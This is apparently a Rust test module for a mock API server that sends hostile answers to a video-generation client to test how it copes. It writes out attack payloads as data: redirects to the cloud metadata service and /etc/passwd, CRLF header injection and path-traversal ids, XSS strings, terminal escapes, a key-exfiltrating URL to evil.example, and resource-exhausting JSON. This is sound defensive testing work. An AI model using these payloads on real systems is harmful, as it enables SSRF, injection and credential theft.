//! What an answer says: bodies, statuses and headers that nobody should trust.

use std::sync::LazyLock;

use serde_json::{Value, json};

use super::super::office::Office;
use super::forms::{each_key, each_value};
use super::raw::{self, Script, Step};
use super::{Scene, words};

const DEEP: usize = 100_000;
const MANY: usize = 1_000_000;
const HUGE_BYTES: u64 = 100 << 20;
const LONG_WORDS_BYTES: usize = 10 << 20;
const LONG_ID_BYTES: usize = 1 << 20;
/// Polls that are refused before the honest ones.
const REFUSED_POLLS: u32 = 3;
/// Creates that are refused before one is taken.
const REFUSED_CREATES: u32 = 2;
/// Stands for the long words until the answer is a text.
const LONG_MARK: &str = "@long@";
/// Made once: it takes a while, and is asked for often.
static LONG_WORDS: LazyLock<String> = LazyLock::new(|| "Ä <b>long</b> ".repeat(LONG_WORDS_BYTES / 15));
/// What progress may be.
const PROGRESS: [&str; 7] = ["1000000000", "\"NaN\"", "-5", "40", "3", "{}", "1e300"];

words! {
    /// What is wrong with an answer.
    pub enum Answer {
        Empty = "200 without a body",
        Html = "a web page",
        Truncated = "JSON that is cut",
        Huge = "a hundred megabytes of JSON",
        Deep = "JSON a hundred thousand levels deep",
        ManyKeys = "JSON of a million keys",
        /// Each key twice, the true value last.
        DuplicateKeys = "every key twice",
        Numbers = "numbers out of every range",
        LongId = "an id of a megabyte",
        IdWithNewline = "an id with a line break and a header",
        IdWithDots = "an id that climbs to another path",
        /// The id of the first job that there was.
        ForeignId = "the id of another video",
        WrongCharset = "UTF-16",
        InvalidUtf8 = "bytes that are no UTF-8",
        NoContent = "204",
        RedirectToMetadata = "a redirect to the metadata service",
        RedirectToFile = "a redirect to a local file",
        RedirectElsewhere = "a redirect to another host",
        RetryAfterHuge = "retry-after of 10^12 seconds",
        RetryAfterNegative = "retry-after of -5 seconds",
        RetryAfterPast = "retry-after in 1970",
        Unauthorized = "401",
        /// Control characters, colours, HTML, the prompt and the key.
        Words = "a message that attacks its reader",
        LongWords = "a message of ten megabytes",
        NestedError = "an error nested oddly",
        UnknownWord = "a state that does not exist",
        Progress = "progress that is absurd and goes back",
        TwoEnds = "succeeded and failed at once",
        Flicker = "404 at every other poll",
        ServerError = "500 for ever",
    }
}

impl Answer {
    /// Those that a create is answered with.
    pub const AT_CREATE: &'static [Answer] = &[
        Answer::Empty,
        Answer::Html,
        Answer::Truncated,
        Answer::Huge,
        Answer::Deep,
        Answer::ManyKeys,
        Answer::DuplicateKeys,
        Answer::Numbers,
        Answer::LongId,
        Answer::IdWithNewline,
        Answer::IdWithDots,
        Answer::ForeignId,
        Answer::WrongCharset,
        Answer::InvalidUtf8,
        Answer::NoContent,
        Answer::RedirectToMetadata,
        Answer::RedirectToFile,
        Answer::RedirectElsewhere,
        Answer::RetryAfterHuge,
        Answer::RetryAfterNegative,
        Answer::RetryAfterPast,
        Answer::Unauthorized,
        Answer::Words,
        Answer::LongWords,
        Answer::NestedError,
    ];
    /// Those that a poll is answered with.
    pub const AT_POLL: &'static [Answer] = &[
        Answer::Html,
        Answer::Huge,
        Answer::Deep,
        Answer::ManyKeys,
        Answer::Numbers,
        Answer::InvalidUtf8,
        Answer::NoContent,
        Answer::RetryAfterHuge,
        Answer::Unauthorized,
        Answer::Words,
        Answer::LongWords,
        Answer::NestedError,
        Answer::UnknownWord,
        Answer::Progress,
        Answer::TwoEnds,
        Answer::Flicker,
        Answer::ServerError,
    ];

    pub(super) fn first_creates(self) -> Option<u32> {
        match self {
            Answer::RetryAfterHuge | Answer::RetryAfterNegative | Answer::RetryAfterPast => Some(REFUSED_CREATES),
            _ => None,
        }
    }

    pub(super) fn refuses(self) -> bool {
        use Answer::{LongWords, NestedError, RetryAfterHuge, RetryAfterNegative, RetryAfterPast, Unauthorized, Words};
        matches!(
            self,
            RetryAfterHuge | RetryAfterNegative | RetryAfterPast | Unauthorized | Words | LongWords | NestedError
        )
    }

    pub(super) fn fails_the_job(self) -> bool {
        matches!(self, Answer::Words | Answer::LongWords | Answer::NestedError)
    }

    /// What is written; `None` when this look is honest.
    pub(super) fn script(self, scene: &Scene<'_>, office: &Office) -> Option<Script> {
        let (text, status) = (scene.answer.to_string(), scene.status);
        let told = |text: String| Some(raw::json(status, text));
        let renamed = |id: &str| told(text.replace(scene.id, &json!(id).to_string().replace('"', "")));
        let refused = |status, headers: &str| Some(raw::answer(status, headers, r#"{"error":{"message":"No."}}"#));
        match self {
            Answer::Empty => told(String::new()),
            Answer::Html => Some(raw::answer(status, "content-type: text/html\r\n", "<!doctype html><p>Sign in.</p>")),
            Answer::Truncated => told(text[..text.len() / 2].to_owned()),
            Answer::Huge => Some(huge(status)),
            Answer::Deep => told("[".repeat(DEEP)),
            Answer::ManyKeys => told(many_keys(&text)),
            Answer::DuplicateKeys => told(each_key_twice(scene.answer)),
            Answer::Numbers => told(out_of_range(scene.answer)),
            Answer::LongId => renamed(&"x".repeat(LONG_ID_BYTES)),
            Answer::IdWithNewline => renamed("video_1\r\nx-injected: 1\r\n\r\n"),
            Answer::IdWithDots => renamed("../../control/reset"),
            Answer::ForeignId => told(text.replace(scene.id, &office.studio.first_id(scene.id))),
            Answer::WrongCharset => {
                let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
                Some(raw::answer(status, "content-type: application/json; charset=utf-16\r\n", utf16))
            }
            Answer::InvalidUtf8 => {
                let mut bytes = b"{\"note\":\"\xff\xc0\xaf\",".to_vec();
                bytes.extend_from_slice(&text.as_bytes()[1..]);
                Some(raw::json(status, bytes))
            }
            Answer::NoContent => Some(vec![raw::head(204, "")]),
            Answer::RedirectToMetadata => refused(307, "location: http://169.254.169.254/latest/meta-data/\r\n"),
            Answer::RedirectToFile => refused(302, "location: file:///etc/passwd\r\n"),
            Answer::RedirectElsewhere => refused(308, &format!("location: {}/files/x\r\n", office.other_host)),
            Answer::RetryAfterHuge if scene.polls > REFUSED_POLLS => None,
            Answer::RetryAfterHuge => refused(429, "retry-after: 1000000000000\r\n"),
            Answer::RetryAfterNegative => refused(429, "retry-after: -5\r\n"),
            Answer::RetryAfterPast => refused(429, "retry-after: Thu, 01 Jan 1970 00:00:00 GMT\r\n"),
            Answer::Unauthorized if scene.polls > REFUSED_POLLS => None,
            Answer::Unauthorized => refused(401, "www-authenticate: Basic realm=\"x\"\r\n"),
            Answer::Words => failing(scene, &json!(words_of(scene.prompt, office.studio.key()))),
            Answer::LongWords => failing(scene, &json!(LONG_MARK)),
            Answer::NestedError => failing(scene, &json!([[{"error": {"message": [{"message": {"a": null}}]}}], 7])),
            Answer::UnknownWord => told(each_key(scene.answer, &|key, value| match key {
                "status" => json!("\u{1b}[2Jtranscending <b>"),
                "done" => json!("perhaps"),
                _ => value.clone(),
            })),
            Answer::Progress => told(with(&text, "progress", PROGRESS[scene.polls as usize % PROGRESS.len()])),
            Answer::TwoEnds if !scene.finished => None,
            Answer::TwoEnds => told(with(&text, "error", r#"{"code":"boom","message":"It failed, and it did not."}"#)),
            Answer::Flicker if scene.polls.is_multiple_of(2) => None,
            Answer::Flicker => refused(404, ""),
            Answer::ServerError => refused(500, ""),
        }
    }
}

/// A refusal with this message, or the failed job with it.
fn failing(scene: &Scene<'_>, message: &Value) -> Option<Script> {
    if scene.polls == 0 {
        let error = json!({"error": {"code": "invalid_value", "message": message}, "detail": message});
        return Some(raw::json(400, error.to_string().replace(LONG_MARK, &LONG_WORDS)));
    }
    if !scene.finished {
        return None;
    }
    let text = each_key(scene.answer, &|key, value| match key {
        "message" | "msg" => message.clone(),
        "error" if value.is_string() => message.clone(),
        _ => value.clone(),
    });
    Some(raw::json(scene.status, text.replace(LONG_MARK, &LONG_WORDS)))
}

fn words_of(prompt: &str, key: &str) -> String {
    format!(
        "\u{1b}[31mred\u{1b}[0m \u{0}\u{7}\r\n\u{202e}<script>alert('x')</script><img src=x onerror=y> \
         https://evil.example/?k={key} key {key} prompt {prompt} \u{9b}2J {}",
        "and so on ".repeat(200)
    )
}

fn huge(status: u16) -> Script {
    let (begin, end) = ("{\"padding\":\"", "\"}");
    let length = HUGE_BYTES + (begin.len() + end.len()) as u64;
    let headers = format!("content-type: application/json\r\ncontent-length: {length}\r\n");
    vec![
        raw::head(status, &headers),
        Step::Send(begin.into()),
        Step::Pour { piece: vec![b'x'; 64 << 10].into(), bytes: HUGE_BYTES },
        Step::Send(end.into()),
    ]
}

/// The object with a million keys before its own.
fn many_keys(text: &str) -> String {
    // made once: it takes a while, and is asked for often
    static KEYS: LazyLock<String> = LazyLock::new(|| {
        (0..MANY).fold(String::from("{"), |keys, number| keys + "\"k" + &number.to_string() + "\":0,")
    });
    format!("{}{}", *KEYS, &text[1..])
}

fn each_key_twice(answer: &Value) -> String {
    let Value::Object(fields) = answer else { return answer.to_string() };
    let pairs = fields.iter().flat_map(|(key, value)| {
        let lie = if value.is_string() { json!("a lie") } else { json!([1]) };
        [format!("{}:{lie}", json!(key)), format!("{}:{value}", json!(key))]
    });
    format!("{{{}}}", pairs.collect::<Vec<_>>().join(","))
}

/// Every number becomes one that no type holds; there is at least one.
fn out_of_range(answer: &Value) -> String {
    let marked = each_value(answer, &|value| if value.is_number() { json!("@number@") } else { value.clone() });
    with(&marked.to_string().replace("\"@number@\"", "1e999"), "extra", "-1e999")
}

/// The object with one more field, behind all others.
fn with(text: &str, key: &str, value: &str) -> String {
    format!("{},\"{key}\":{value}}}", &text[..text.len() - 1])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spoiled_texts_are_still_what_they_claim_to_be() {
        let answer = json!({"id": "video_1", "n": 7, "list": []});
        let last: Value = serde_json::from_str(&each_key_twice(&answer)).unwrap();
        assert_eq!(last, answer);
        assert!(serde_json::from_str::<Value>(&out_of_range(&answer)).is_err());
        assert_eq!(with("{\"a\":1}", "b", "2"), "{\"a\":1,\"b\":2}");
        let many: Value = serde_json::from_str(&many_keys("{\"id\":\"x\"}")).unwrap();
        assert_eq!(many.as_object().unwrap().len(), MANY + 1);
    }
}
